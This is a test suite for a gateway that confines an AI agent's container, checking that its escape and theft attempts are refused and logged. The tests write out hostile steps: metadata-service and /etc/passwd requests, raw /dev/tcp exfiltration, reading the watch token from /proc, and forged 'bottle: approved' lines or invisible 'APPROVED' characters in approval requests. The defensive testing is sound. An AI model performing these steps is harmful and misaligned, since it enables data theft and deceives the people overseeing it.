      const out = await gatewayAttempt(
        'base',
        'metadata address via the proxy',
        `-x ${proxy()} http://169.254.169.254/latest/meta-data/`,
        403,
        {
          host: '169.254.169.254',
          port: 80,
          reason: 'private_address',
        },
      );
      expect(out).toContain('private_address');
    });

    it('IPv6 literals via the proxy: loopback refused by the address policy, unlisted by the allowlist', async () => {
      await gatewayAttempt('base', 'IPv6 loopback literal via the proxy', `-x ${proxy()} -g 'http://[::1]/'`, 403, {
        host: '::1',
        port: 80,
        reason: 'private_address',
      });
      const at = await mark();
      const unlisted = await inAgent(`curl -sS --max-time 10 -p -x ${proxy()} -g 'https://[fd00::1]/'`);
      const recorded = await recordedAs(at, {
        host: 'fd00::1',
        port: 443,
        method: 'CONNECT',
        reason: 'not_in_allowlist',
      });
      row('base', 'CONNECT to an unlisted IPv6 literal', {
        refused: unlisted.code !== 0 && /403/.test(unlisted.output),
        recorded,
        leaked: false,
      });
      expect(unlisted.code).not.toBe(0);
      expect(unlisted.output).toMatch(/403/);
      expect(recorded).toBe(true);
    });

    it('CONNECT to an allowlisted host on another port is refused (port_not_allowed)', async () => {
      const at = await mark();
      const r = await inAgent(`curl -sS --max-time 10 -p -x ${proxy()} https://allowed.test:8443/`);
      const recorded = await recordedAs(at, {
        host: 'allowed.test',
        port: 8443,
        method: 'CONNECT',
        reason: 'port_not_allowed',
      });
      row('base', 'CONNECT to an allowlisted host, other port', {
        refused: r.code !== 0 && /403/.test(r.output),
        recorded,
        leaked: false,
      });
      expect(r.code).not.toBe(0);
      expect(r.output).toMatch(/403/);
      expect(recorded).toBe(true);
    });

    it('CONNECT to an unlisted host is refused (not_in_allowlist)', async () => {
      const at = await mark();
      const r = await inAgent(`curl -sS --max-time 10 -p -x ${proxy()} https://unlisted.test/`);
      const recorded = await recordedAs(at, {
        host: 'unlisted.test',
        port: 443,
        method: 'CONNECT',
        reason: 'not_in_allowlist',
      });
      row('base', 'CONNECT to an unlisted host', {
        refused: r.code !== 0 && /403/.test(r.output),
        recorded,
        leaked: false,
      });
      expect(r.code).not.toBe(0);
      expect(r.output).toMatch(/403/);
      expect(recorded).toBe(true);
    });

    it('an absolute-form request to an unlisted host is refused with a JSON 403 (not_in_allowlist)', async () => {
      const out = await gatewayAttempt(
        'base',
        'plain HTTP to an unlisted host',
        `-x ${proxy()} http://unlisted.test/steal`,
        403,
        {
          host: 'unlisted.test',
          port: 80,
          method: 'GET',
          reason: 'not_in_allowlist',
        },
      );
      const body = JSON.parse(out.slice(0, out.lastIndexOf('\n'))) as { error: string; host: string; reason: string };
      expect(body).toMatchObject({ error: 'egress_denied', host: 'unlisted.test', reason: 'not_in_allowlist' });
    });

    it('a TLS name other than the CONNECT host is refused before a byte is forwarded (tls_sni_mismatch)', async () => {
      const bytesBefore = listener.bytes;
      const at = await mark();
      const r = await inAgent(
        `timeout 15 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} ` +
          '-servername other.test </dev/null',
      );
      const recorded = await recordedAs(at, {
        host: 'allowed.test',
        port: listener.port,
        method: 'CONNECT',
        reason: 'tls_sni_mismatch',
      });
      row('base', 'TLS naming another host in an allowed tunnel', {
        refused: r.code !== 0,
        recorded,
        leaked: listener.bytes !== bytesBefore,
      });
      expect(r.code).not.toBe(0);
      expect(recorded).toBe(true);
      expect(listener.bytes).toBe(bytesBefore);
    });

    it('control: the same tunnel with the matching TLS name is accepted (the SNI check is what refused)', async () => {
      // allowed.test is inspected: the gateway itself completes the handshake with a certificate for that
      // name from its per-run CA, and would read each request; nothing goes upstream before one arrives.
      const shown = await inAgent(
        `timeout 3 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} ` +
          '-servername allowed.test </dev/null 2>&1',
      );
      expect(shown.output).toContain('-----BEGIN CERTIFICATE-----');
      expect(shown.output).toMatch(/subject=.*allowed\.test/);
    });

    it('a request with 64 KiB of headers is refused (431 header_too_large)', async () => {
      await gatewayAttempt(
        'base',
        'oversized request headers',
        `-x ${proxy()} -H "X-Big: $(head -c 65536 /dev/zero | tr '\\0' a)" http://allowed.test/`,
        431,
        { reason: 'header_too_large' },
      );
    });

    it('path escapes on the credential port are refused (400 path_escape), plain and percent-encoded', async () => {
      for (const path of ['/../x', '/%2e%2e/x', '/v1/%2E%2E/%2e%2e/etc/passwd']) {
        await gatewayAttempt(
          'base',
          `credential port path ${path}`,
          `--noproxy '*' --path-as-is '${credentialPort()}${path}'`,
          400,
          {
            reason: 'path_escape',
          },
        );
      }
    });
  });

  describe('issue 12', () => {
    it('control: a clean request to the route host via the proxy port reaches it with the real secret', async () => {
      const before = reflector.seen.length;
      const r = await inAgent(`curl -sS --max-time 10 -x ${proxy()} -w '\\n%{http_code}' http://${ROUTE_HOST}/user`);
      expect(r.output).toMatch(/200$/);
      expect(reflector.seen.length).toBe(before + 1);
      expect(reflector.seen.at(-1)).toMatchObject({ url: '/user', headers: { authorization: `Bearer ${secret}` } });
    });

    it('finding 7: plain-HTTP requests to the route host via the proxy port get the path-escape check', async () => {
      for (const path of ['/..%2f..%2fadmin', '/v1/../admin', '/v1/%2e%2e/admin']) {
        await gatewayAttempt(
          '7',
          `proxy port http://${ROUTE_HOST}${path}`,
          `-x ${proxy()} --path-as-is 'http://${ROUTE_HOST}${path}'`,
          400,
          {
            host: ROUTE_HOST,
            reason: 'path_escape',
          },
        );
      }
    });

    it('finding 8: TRACE is refused on every way to the secret; TRACK never reaches the upstream', async () => {
      const denial = { host: ROUTE_HOST, method: 'TRACE', reason: 'method_not_allowed' };
      await gatewayAttempt(
        '8',
        'TRACE, credential port',
        `--noproxy '*' -X TRACE '${credentialPort()}/_host/${ROUTE_HOST}/user'`,
        405,
        denial,
      );
      await gatewayAttempt(
        '8',
        'TRACE, proxy port absolute-form',
        `-x ${proxy()} -X TRACE 'http://${ROUTE_HOST}/user'`,
        405,
        denial,
      );
      await gatewayAttempt(
        '8',
        'TRACE, intercepted HTTPS',
        `-x ${proxy()} -X TRACE 'https://${ROUTE_HOST}/user'`,
        405,
        denial,
      );
      // Node's parser does not know TRACK: refused as a malformed request before any handler runs.
      await gatewayAttempt(
        '8',
        'TRACK, credential port',
        `--noproxy '*' -X TRACK '${credentialPort()}/_host/${ROUTE_HOST}/user'`,
        400,
        {
          reason: 'bad_request',
        },
      );
    });

    it('finding 9: "..;" and ".;" segments are refused on every way to the secret', async () => {
      const denial = { host: ROUTE_HOST, reason: 'path_escape' };
      await gatewayAttempt(
        '9',
        '/..;/admin, credential port',
        `--noproxy '*' --path-as-is '${credentialPort()}/_host/${ROUTE_HOST}/..;/admin'`,
        400,
        denial,
      );
      await gatewayAttempt(
        '9',
        '/v1/.;/admin, proxy port',
        `-x ${proxy()} --path-as-is 'http://${ROUTE_HOST}/v1/.;/admin'`,
        400,
        denial,
      );
      await gatewayAttempt(
        '9',
        '/..;x=1/admin, intercepted HTTPS',
        `-x ${proxy()} --path-as-is 'https://${ROUTE_HOST}/..;x=1/admin'`,
        400,
        denial,
      );
    });

    it('finding 10: the CA the agent trusts excludes every IPv4 and IPv6 address', async () => {
      // The CA key never leaves the gateway, so no leaf can be forged here; the unit test
      // (gateway-interception-ca) proves openssl refuses an IP-SAN leaf under these constraints.
      const r = await inAgent(`openssl x509 -in ${AGENT_CA} -noout -text`);
      const constrained = /Excluded:\s+IP:0\.0\.0\.0\/0\.0\.0\.0\s+IP:0:0:0:0:0:0:0:0\/0:0:0:0:0:0:0:0/.test(r.output);
      row('10', 'IP-address certificates under the bottle CA', { refused: constrained, recorded: null, leaked: false });
      expect(r.output).toMatch(/X509v3 Name Constraints: critical/);
      expect(r.output).toContain(`DNS:${ROUTE_HOST}`);
      expect(constrained, r.output).toBe(true);
    });

    it('finding 11: allowlisted NAT64, 6to4 and site-local literals of internal addresses are refused', async () => {
      for (const literal of ['64:ff9b::7f00:1', '2002:7f00:1::1', 'fec0::1']) {
        await gatewayAttempt(
          '11',
          `http://[${literal}]/ via the proxy`,
          `-x ${proxy()} -g 'http://[${literal}]/'`,
          403,
          {
            host: literal,
            port: 80,
            reason: 'private_address',
          },
        );
      }
    });

    it('finding 14: plain HTTP in a tunnel whose Host names another host is refused', async () => {
      await gatewayAttempt(
        '14',
        'plain HTTP in a tunnel, Host: evil.test',
        `-p -x ${proxy()} -H 'Host: evil.test' 'http://allowed.test:${reflector.port}/steal'`,
        403,
        { host: 'allowed.test', port: reflector.port, reason: 'tunnel_host_mismatch' },
      );
      // Control: the same tunnel naming its own host is served.
      const before = reflector.seen.length;
      const ok = await inAgent(
        `curl -sS --max-time 10 -p -x ${proxy()} -w '\\n%{http_code}' 'http://allowed.test:${reflector.port}/fine'`,
      );
      expect(ok.output).toMatch(/200$/);
      expect(reflector.seen.slice(before).map((s) => s.url)).toEqual(['/fine']);
    });

    it('finding 14: a TLS ClientHello without a server name is refused before any byte is forwarded', async () => {
      const bytesBefore = listener.bytes;
      const at = await mark();
      const r = await inAgent(
        `timeout 15 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} ` +
          '-noservername </dev/null',
      );
      const recorded = await recordedAs(at, {
        host: 'allowed.test',
        port: listener.port,
        method: 'CONNECT',
        reason: 'tls_no_sni',
      });
      row('14', 'TLS without a server name in a tunnel', {
        refused: r.code !== 0,
        recorded,
        leaked: listener.bytes !== bytesBefore,
      });
      expect(r.code).not.toBe(0);
      expect(recorded).toBe(true);
      expect(listener.bytes).toBe(bytesBefore);
    });

    it('finding 14: bytes that are neither TLS, HTTP nor SSH are refused (tunnel_unrecognized)', async () => {
      const bytesBefore = listener.bytes;
      const at = await mark();
      const connect =
        `CONNECT allowed.test:${listener.port} HTTP/1.1\\r\\n` + `Host: allowed.test:${listener.port}\\r\\n\\r\\n`;
      const r = await inAgent(
        `timeout 10 bash -c 'exec 3<>/dev/tcp/${gatewayIp}/3128; printf "${connect}" >&3; head -c 39 <&3; ` +
          `printf "\\001\\002exfiltrate\\n" >&3; cat <&3; echo "closed"'`,
      );
      const recorded = await recordedAs(at, {
        host: 'allowed.test',
        port: listener.port,
        method: 'CONNECT',
        reason: 'tunnel_unrecognized',
      });
      const closed = r.output.includes('closed');
      row('14', 'unrecognised bytes in a tunnel', {
        refused: closed,
        recorded,
        leaked: listener.bytes !== bytesBefore,
      });
      expect(r.output).toContain('200 Connection Established');
      expect(closed, r.output).toBe(true);
      expect(recorded).toBe(true);
      expect(listener.bytes).toBe(bytesBefore);
    });
  });

  describe('issue 12: the agent container, the capability endpoint, the host side, DNS and direct connections', () => {
    const capabilityEndpoint = () => `${credentialPort()}/_bottle/capability`;
    /** Capability asks that spent the endpoint's budget so far (accepted ones: a refused ask gives its token back). */
    let capabilityAsksSpent = 0;

    /** Posts each body to the capability endpoint, one after the other; answers [status, body] per post. */
    async function postAsks(bodies: string[]): Promise<Array<{ status: number; body: string }>> {
      // JSON.stringify escapes every control character and quote, so a body is safe inside single quotes.
      for (const body of bodies) expect(body).not.toContain("'");
      const script = bodies
        .map((body) => `curl -sS --max-time 10 -X POST -d '${body}' -w '\\n%{http_code}\\n' ${capabilityEndpoint()}`)
        .join('; ');
      const r = await inAgent(script);
      const lines = r.output.trim().split('\n');
      const answers: Array<{ status: number; body: string }> = [];
      for (let i = 0; i + 1 < lines.length; i += 2) answers.push({ body: lines[i], status: Number(lines[i + 1]) });
      expect(answers, r.output).toHaveLength(bodies.length);
      capabilityAsksSpent += answers.filter((a) => a.status === 202).length;
      return answers;
    }

    /**
     * Makes the gateway print one more decision line and waits for its event: the gateway's lines
     * are numbered and recorded in order, so every line printed before it is in the log too.
     */
    async function barrier(): Promise<void> {
      const at = await mark();
      const host = `barrier-${randomBytes(4).toString('hex')}.test`;
      await inAgent(`curl -sS --max-time 10 -o /dev/null -x ${proxy()} http://${host}/`);
      await deniedEvent(at, { host, reason: 'not_in_allowlist' });
    }

    async function eventsAfter(afterSeq: number, type: string): Promise<LifecycleEvent[]> {
      return (await h.log.read(identity, afterSeq + 1)).filter((e) => e.type === type);
    }

    it('finding 4: the agent runs as uid 1000, given by number', async () => {
      const info = await agent.inspect();
      // No user given: the exec runs as the container's own user, as the agent's process does.
      const ids = await execIn(agent, ['sh', '-c', 'id -u; id -g']);
      const byNumber = info.Config.User === '1000:1000';
      const uid1000 = ids.code === 0 && ids.output.trim().split(/\s+/).join(' ') === '1000 1000';
      row('4', 'agent user (id -u / -g, Config.User)', {
        refused: byNumber && uid1000,
        recorded: null,
        leaked: false,
        note: 'node remapped to uid 0: agent-uid-by-number.test.ts',
      });
      expect(info.Config.User).toBe('1000:1000');
      expect(ids.output.trim().split(/\s+/)).toEqual(['1000', '1000']);
    });

    it('finding 12: the agent container has the default limits when the manifest sets none', async () => {
      const { Memory, NanoCpus, PidsLimit, Ulimits } = (await agent.inspect()).HostConfig;
      const pids = DEFAULT_LIMITS.pids;
      // Under gVisor the agent's user is bounded inside the sandbox; the cgroup is a ceiling with room for its threads.
      const { nproc, cgroup } = planLimits({}, runtime).pids_enforcement;
      const nprocs = nproc === null ? [] : [{ Name: 'nproc', Soft: nproc, Hard: nproc }];
      const limited =
        Memory === 4 * 1024 ** 3 &&
        NanoCpus === 2e9 &&
        PidsLimit === cgroup &&
        isDeepStrictEqual(Ulimits ?? [], nprocs);
      row('12', `agent limits with none in the manifest (4g, 2 cpus, ${pids} pids)`, {
        refused: limited,
        recorded: null,
        leaked: false,
      });
      expect({ Memory, NanoCpus, PidsLimit, Ulimits: Ulimits ?? [] }).toEqual({
        Memory: 4 * 1024 ** 3,
        NanoCpus: 2e9,
        PidsLimit: cgroup,
        Ulimits: nprocs,
      });
      // A parallel build's worth of processes fits under the default.
      const busy = await execIn(agent, ['bash', '-c', 'for i in $(seq 150); do sleep 1 & done; wait; echo done']);
      expect(busy.output).toContain('done');
      expect((await agent.inspect()).State.Running).toBe(true);
    });

    it('finding 6: the gateway egress address refuses 3128 and 3129 from the host; the proxy still works', async () => {
      const outcomes: Record<number, string> = {};
      for (const port of [3128, 3129]) outcomes[port] = await connectOutcome(gatewayEgressIp, port);
      const before = reflector.seen.length;
      const agentProxy = await inAgent(
        `curl -sS --max-time 10 -x ${proxy()} -w '\\n%{http_code}' 'http://allowed.test:${reflector.port}/still-works'`,
      );
      row('6', 'host to the gateway egress address :3128 and :3129', {
        refused: outcomes[3128] === 'ECONNREFUSED' && outcomes[3129] === 'ECONNREFUSED',
        recorded: null,
        leaked: Object.values(outcomes).includes('connected'),
        note: 'refused by the socket layer: no gateway handler sees it',
      });
      expect(outcomes).toEqual({ 3128: 'ECONNREFUSED', 3129: 'ECONNREFUSED' });
      expect(agentProxy.output).toMatch(/200$/);
      expect(reflector.seen.slice(before).map((s) => s.url)).toEqual(['/still-works']);
    });

    it('finding 15: sentry.io and statsig.anthropic.com are not allowlisted: refused and recorded', async () => {
      for (const host of ['sentry.io', 'statsig.anthropic.com']) {
        // The gateway refuses the CONNECT without resolving the name (pinned to this host anyway).
        const at = await mark();
        const r = await inAgent(`curl -sS --max-time 10 -p -x ${proxy()} https://${host}/`);
        const recorded = await recordedAs(at, { host, port: 443, method: 'CONNECT', reason: 'not_in_allowlist' });
        row('15', `CONNECT ${host}:443`, { refused: r.code !== 0 && /403/.test(r.output), recorded, leaked: false });
        expect(r.code).not.toBe(0);
        expect(r.output).toMatch(/403/);
        expect(recorded).toBe(true);
      }
    });

    it('finding 3: capability asks with ESC or CR in the reason or host are refused (400), no event', async () => {
      const at = await mark();
      const asks = [
        { kind: 'egress', host: 'pypi.test', reason: 'need pip\u001b[2K\u001b[1Aegress pypi.test:443 - need pip' },
        { kind: 'egress', host: 'docs.test\r', reason: 'read the docs' },
      ];
      const answers = await postAsks(asks.map((a) => JSON.stringify(a)));
      await barrier();
      const requested = await eventsAfter(at, 'capability.requested');
      const issues = answers.map((a) => (JSON.parse(a.body) as { issues?: string[] }).issues ?? []);
      const attempts = ['capability ask, ESC in the reason', 'capability ask, CR in the host'];
      answers.forEach((a, i) =>
        row('3', attempts[i], {
          refused: a.status === 400 && a.body.includes('invalid_capability_request'),
          recorded: false,
          leaked: requested.length > 0,
          note: 'by design: a refused ask is no event (asserted)',
        }),
      );
      expect(answers.map((a) => a.status)).toEqual([400, 400]);
      expect(issues[0].join(' ')).toMatch(/^reason: control characters/);
      expect(issues[1].join(' ')).toMatch(/^host: /);
      expect(requested).toEqual([]);
    });

    it('finding 21.7: a reason with U+200B, U+202E and tag characters is refused (400), no event', async () => {
      const at = await mark();
      // Zero-width space, right-to-left override, and "APPROVED" in tag characters (invisible when drawn).
      const hidden = [...'APPROVED'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
      const reason = `need docs\u200b.test \u202egro.ipyp\u202c${hidden}`;
      const [answer] = await postAsks([JSON.stringify({ kind: 'egress', host: 'docs.test', reason })]);
      await barrier();
      const requested = await eventsAfter(at, 'capability.requested');
      const issues = (JSON.parse(answer.body) as { issues?: string[] }).issues ?? [];
      const shown = await h.cli(['events', identity]);
      const raw = /[\u200b\u202e\u{e0000}-\u{e007f}]/u.exec(shown.stdout);
      row('21.7', 'capability reason with U+200B, U+202E and tag characters', {
        refused: answer.status === 400 && issues.join(' ').includes('invisible'),
        recorded: false,
        leaked: requested.length > 0 || raw !== null,
        note: 'refused at the endpoint (a refused ask is no event); shown text is escaped (visible-text unit tests)',
      });
      expect(answer.status).toBe(400);
      expect(issues.join(' ')).toMatch(/^reason: .*invisible characters are refused/);
      expect(requested).toEqual([]);
      expect(raw).toBeNull();
    });

    it('finding 5: 20 capability asks in a row: the budget of 4 is spent, then 429 rate limited', async () => {
      const at = await mark();
      // Only accepted asks spend the budget: the ones refused above gave their tokens back.
      const spentBefore = capabilityAsksSpent;
      const expectedAccepted = Math.max(0, CAPABILITY_BURST - spentBefore);
      const asks = Array.from({ length: 20 }, (_, i) =>
        JSON.stringify({ kind: 'egress', host: `flood-${i}.test`, reason: `ask ${i}\nbottle: approved` }),
      );
      const answers = await postAsks(asks);
      await barrier();
      const requested = await eventsAfter(at, 'capability.requested');
      const statuses = answers.map((a) => a.status);
      const accepted = statuses.filter((s) => s === 202).length;
      const limited = answers.filter((a) => a.status === 429 && a.body.includes('"capability_rate_limited"'));
      const inOrder = statuses.every((s, i) => s === (i < expectedAccepted ? 202 : 429));
      row('5', '20 capability asks in a row', {
        refused: inOrder && limited.length === 20 - expectedAccepted,
        recorded: requested.length === accepted,
        leaked: accepted > CAPABILITY_BURST || requested.length > accepted,
        note:
          `${accepted} accepted (budget ${CAPABILITY_BURST}, ${spentBefore} spent by earlier accepted asks), ` +
          `${limited.length} refused 429; ${requested.length} capability.requested events`,
      });
      expect(statuses).toEqual(asks.map((_, i) => (i < expectedAccepted ? 202 : 429)));
      expect(limited).toHaveLength(20 - expectedAccepted);
      expect(requested.map((e) => (e.data as { host: string }).host)).toEqual(
        asks.slice(0, expectedAccepted).map((_, i) => `flood-${i}.test`),
      );
    });

    it('finding 3: bottle events shows a reason with a line break and a DNS name with ESC/CR visibly', async () => {
      const at = await mark();
      // A raw DNS query for the name "x<ESC>[2Ky<CR>.esc-probe.test", sent to the agent's own resolver.
      const query =
        '\\022\\064\\001\\000\\000\\001\\000\\000\\000\\000\\000\\000' +
        '\\007x\\033[2Ky\\015\\011esc-probe\\004test\\000\\000\\001\\000\\001';
      const sent = await execIn(
        agent,
        [
          'bash',
          '-c',
          `ns=$(awk '/^nameserver/ {print $2; exit}' /etc/resolv.conf); exec 3<>/dev/udp/$ns/53; ` +
            `printf '${query}' >&3; timeout 3 head -c 4 <&3 | od -An -tx1`,
        ],
        { user: 'node' },
      );
      const shownName = 'x\\027[2Ky\\013.esc-probe.test';
      const forged = 'bottle: approved';
      const recorded = await recordedAs(at, { host: shownName, port: 53, method: 'DNS', reason: 'dns_lookup' });
      const shown = await h.cli(['events', identity]);
      const raw = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.exec(shown.stdout);
      const lines = shown.stdout.split('\n');
      const dnsLine = lines.find((l) => l.includes('esc-probe.test')) ?? '';
      const reasonLine = lines.find((l) => l.includes('flood-0.test')) ?? '';
      row('3', 'DNS name with ESC and CR, in bottle events', {
        refused: raw === null && dnsLine.includes(shownName),
        recorded,
        leaked: raw !== null,
      });
      row('3', 'capability reason with a line break, in bottle events', {
        refused: reasonLine.includes('ask 0\\nbottle: approved') && !lines.some((l) => l.startsWith(forged)),
        recorded: reasonLine !== '',
        leaked: raw !== null,
      });
      expect(sent.code, sent.output).toBe(0);
      expect(recorded).toBe(true);
      expect(shown.code, shown.stderr).toBe(0);
      expect(raw, JSON.stringify(raw?.[0])).toBeNull();
      expect(dnsLine).toContain(shownName);
      expect(reasonLine).toContain('ask 0\\nbottle: approved');
      expect(lines.filter((l) => l.startsWith(forged))).toEqual([]);
    });

    it('finding 16: a DNS lookup from the agent fails and is recorded as egress.denied (dns_lookup)', async () => {
      const at = await mark();
      const r = await inAgent('timeout 8 getent hosts x.test; echo "rc=$?"');
      const recorded = await recordedAs(at, { host: 'x.test', port: 53, method: 'DNS', reason: 'dns_lookup' });
      const resolved = /\d+\.\d+\.\d+\.\d+\s+x\.test/.test(r.output);
      row('16', 'getent hosts x.test', { refused: /rc=2/.test(r.output) && !resolved, recorded, leaked: resolved });
      expect(r.output).toMatch(/rc=2/);
      expect(resolved).toBe(false);
      expect(recorded).toBe(true);
    });

    it('finding 16: a direct TCP connection past the gateway is refused at once and recorded', async () => {
      // Aimed at the bottle's own unheld bridge address: the watch refuses it as it refuses any address
      // that is not the agent's hop, and the guard proves nothing could leave the bridge anyway.
      await expectNoWayOffTheInternalBridge();
      const at = await mark();
      const r = await inAgent(`curl -sS --noproxy '*' --max-time 4 http://${internalBridgeGw}/`);
      const match = { host: internalBridgeGw, port: 80, method: 'TCP', reason: 'direct_connection' };
      const recorded = await recordedAs(at, match);
      row('16', 'direct TCP to port 80 past the gateway', { refused: r.code !== 0, recorded, leaked: r.code === 0 });
      expect(r.code, r.output).not.toBe(0);
      // Refused in the agent's own namespace (a reset), not left to time out on a next hop that never answers.
      expect(r.output).toMatch(/Couldn't connect to server|Connection refused/i);
      expect(r.output).not.toMatch(/timed out/i);
      expect(recorded, JSON.stringify(match)).toBe(true);
    });

    it('finding 16: a UDP datagram straight to a DNS port past the gateway is refused and recorded', async () => {
      await expectNoWayOffTheInternalBridge();
      const at = await mark();
      const r = await inAgent(`bash -c 'echo probe > /dev/udp/${egressBridgeGw}/53'; echo "rc=$?"`);
      const match = { host: egressBridgeGw, port: 53, method: 'UDP', reason: 'direct_connection' };
      const recorded = await recordedAs(at, match);
      row('16', 'direct UDP to a DNS port past the gateway', {
        refused: /rc=1/.test(r.output),
        recorded,
        leaked: false,
      });
      expect(r.output).toMatch(/rc=1/);
      expect(recorded, JSON.stringify(match)).toBe(true);
    });

    it("finding 16: a direct connection to this host's listener through the egress bridge is recorded", async () => {
      const at = await mark();
      const before = listener.connections;
      const r = await inAgent(`curl -sS --noproxy '*' --max-time 3 http://${egressBridgeGw}:${listener.port}/`);
      const recorded = await recordedAs(at, { host: egressBridgeGw, port: listener.port, reason: 'direct_connection' });
      const leaked = listener.connections !== before;
      row('16', 'direct TCP to a listener on this host (egress bridge)', { refused: r.code !== 0, recorded, leaked });
      expect(r.code, r.output).not.toBe(0);
      expect(recorded).toBe(true);
      expect(leaked).toBe(false);
    });

    it('finding 16: the agent can neither read the watch token nor forge a report with a guessed one', async () => {
      const at = await mark();
      const environs = await inAgent('cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c NETWATCH_TOKEN');
      const forged = JSON.stringify({ token: 'f'.repeat(64), protocol: 'tcp', host: '203.0.113.5', port: 443 });
      const sent = await inAgent(`printf '%s' '${forged}' | bash -c 'cat > /dev/udp/${gatewayIp}/3131'; echo "rc=$?"`);
      expect(sent.output, 'the forged report was sent').toMatch(/rc=0/);
      const recorded = await recordedAs(at, { host: '203.0.113.5' }, 3000);
      row('16', 'forged network watch report from the agent', {
        refused: !recorded && environs.output.trim() === '0',
        recorded: null,
        leaked: recorded,
      });
      expect(environs.output.trim()).toBe('0');
      expect(recorded).toBe(false);
    });

    it('finding 16: the network watch runs without root or capabilities once it records', async () => {
      const watch = h.docker.getContainer(`cb-${identity}-netwatch`);
      const status = await execIn(watch, ['cat', '/proc/1/status']);
      const uid = /^Uid:\s+(\d+)/m.exec(status.output)?.[1];
      const capabilities = /^CapEff:\s+([0-9a-f]+)/m.exec(status.output)?.[1];
      row('16', 'the network watch after it attached: uid and capabilities', {
        refused: uid === '65534' && capabilities !== undefined && BigInt(`0x${capabilities}`) === 0n,
        recorded: null,
        leaked: false,
      });
      expect(uid).toBe('65534');
      expect(BigInt(`0x${capabilities ?? 'f'}`)).toBe(0n);
    });
  });

  it('finding 21.4: twenty direct connects in one burst are all refused and all recorded', async () => {
    await expectNoWayOffTheInternalBridge();
    const at = await mark();
    const ports = Array.from({ length: 20 }, (_, i) => 2001 + i);
    // One shell, no subshell per connect: each is refused on the spot, so the twenty leave within a moment.
    const r = await inAgent(
      `bash -c 'start=$(date +%s%N); for p in ${ports.join(' ')}; do ` +
        `{ : 3<>/dev/tcp/${internalBridgeGw}/$p && echo reached; } 2>/dev/null; done; ` +
        `echo elapsed_ms=$(( ($(date +%s%N) - start) / 1000000 ))'`,
    );
    const deadline = Date.now() + 20_000;
    let recorded = new Set<number>();
    while (recorded.size < ports.length && Date.now() < deadline) {
      recorded = new Set(
        (await h.log.read(identity, at + 1))
          .filter((e) => e.type === 'egress.denied')
          .map((e) => e.data as Denial)
          .filter((d) => d.reason === 'direct_connection' && d.host === internalBridgeGw && ports.includes(d.port))
          .map((d) => d.port),
      );
      if (recorded.size < ports.length) await new Promise((resolve) => setTimeout(resolve, 200));
    }
    const elapsed = /elapsed_ms=(\d+)/.exec(r.output)?.[1];
    row('21.4', 'twenty direct connects in one burst', {
      refused: !r.output.includes('reached'),
      recorded: recorded.size === ports.length,
      leaked: false,
      note: `${recorded.size} of ${ports.length} recorded, sent within ${elapsed ?? '?'} ms`,
    });
    // Typically well under 100 ms; the bound only checks they came as a burst, inside the one-second window
    // in which the kernel used to batch them into one message the capture cut short.
    expect(Number(elapsed), r.output).toBeLessThan(500);
    expect(r.output).not.toContain('reached');
    expect([...recorded].sort((a, b) => a - b)).toEqual(ports);
  }, 120_000);

  // After every other direct connection: the flood drains the budget for recording them.
  it('finding 16: a flood of direct connections is all refused, and recorded only up to its budget', async () => {
    await expectNoWayOffTheInternalBridge();
    const at = await mark();
    const began = Date.now();
    const r = await inAgent(
      `bash -c 'n=0; for p in $(seq 1 300); do (exec 3<>/dev/tcp/${internalBridgeGw}/$p) 2>/dev/null && ` +
        "n=$((n+1)); done; echo connected=$n'",
    );
    // The last of them may still be on their way into the log.
    await new Promise((resolve) => setTimeout(resolve, 3000));
    const recorded = (await h.log.read(identity, at + 1)).filter(
      (e) => e.type === 'egress.denied' && (e.data as Denial).reason === 'direct_connection',
    ).length;
    // The budget is a burst of a minute's worth, refilled as the minute goes: what the flood's own span adds.
    const refilled = Math.ceil(((Date.now() - began) / 60_000) * DIRECT_RECORDS_PER_MINUTE);
    const budget = DIRECT_RECORDS_PER_MINUTE + refilled;
    row('16', 'direct connection flood (300 connects)', {
      refused: r.output.includes('connected=0'),
      recorded: recorded > 0,
      leaked: false,
      note: `${recorded} recorded (budget ${DIRECT_RECORDS_PER_MINUTE} a minute, ${budget} over the flood's span)`,
    });
    expect(r.output).toContain('connected=0');
    expect(recorded).toBeGreaterThan(0);
    expect(recorded).toBeLessThanOrEqual(budget);
  }, 120_000);

  // Last: the limiter is gateway-wide, so a drained bucket would refuse the attempts above too.
  it('a request flood beyond requests_per_minute (600) is cut off with 429 rate_limited', async () => {
    const at = await mark();
    const r = await inAgent(
      `curl -s --no-progress-meter -Z --parallel-max 16 -o /dev/null -w '%{http_code}\\n' -x ${proxy()} ` +
        "'http://unlisted.test/flood/[1-900]' 2>/dev/null",
    );
    const codes = r.output.trim().split('\n');
    const limited = codes.filter((c) => c === '429').length;
    const recorded = await recordedAs(at, { host: 'unlisted.test', port: 80, reason: 'rate_limited' }, 60_000);
    row('base', 'request flood (900 requests)', {
      refused: limited > 0 && codes.every((c) => c === '429' || c === '403'),
      recorded,
      leaked: false,
    });
    expect(codes).toHaveLength(900);
    expect(limited).toBeGreaterThan(0);
    // Everything not rate-limited was still refused by the allowlist.
    expect(codes.filter((c) => c !== '429' && c !== '403')).toEqual([]);
    expect(recorded).toBe(true);
  }, 120_000);

  it('every gateway refusal above is in `bottle events --format json`', async () => {
    // The worker records decisions as the gateway prints them; after a 900-request flood
    // the last ones may still be on their way into the log, so wait for them (bounded).
    const wanted = [
      'private_address',
      'not_in_allowlist',
      'port_not_allowed',
      'tls_sni_mismatch',
      'header_too_large',
      'path_escape',
      'rate_limited',
      'method_not_allowed',
      'tunnel_host_mismatch',
      'tls_no_sni',
      'tunnel_unrecognized',
      'dns_lookup',
      'direct_connection',
    ];
    const deadline = Date.now() + 60_000;
    let reasons = new Set<string>();
    for (;;) {
      const r = await h.cli(['events', identity, '--format', 'json']);
      expect(r.code, r.stderr).toBe(0);
      const denied = r.stdout
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as { type: string; data: Denial })
        .filter((e) => e.type === 'egress.denied');
      reasons = new Set(denied.map((e) => e.data.reason));
      if (wanted.every((w) => reasons.has(w)) || Date.now() > deadline) break;
      await new Promise((r) => setTimeout(r, 1000));
    }
    for (const reason of wanted) expect(reasons, reason).toContain(reason);
    // And the route secret is in none of them.
    const all = await h.cli(['events', identity, '--format', 'json']);
    expect(all.stdout).not.toContain(secret);
  });

  // Last: it stops the bottle.
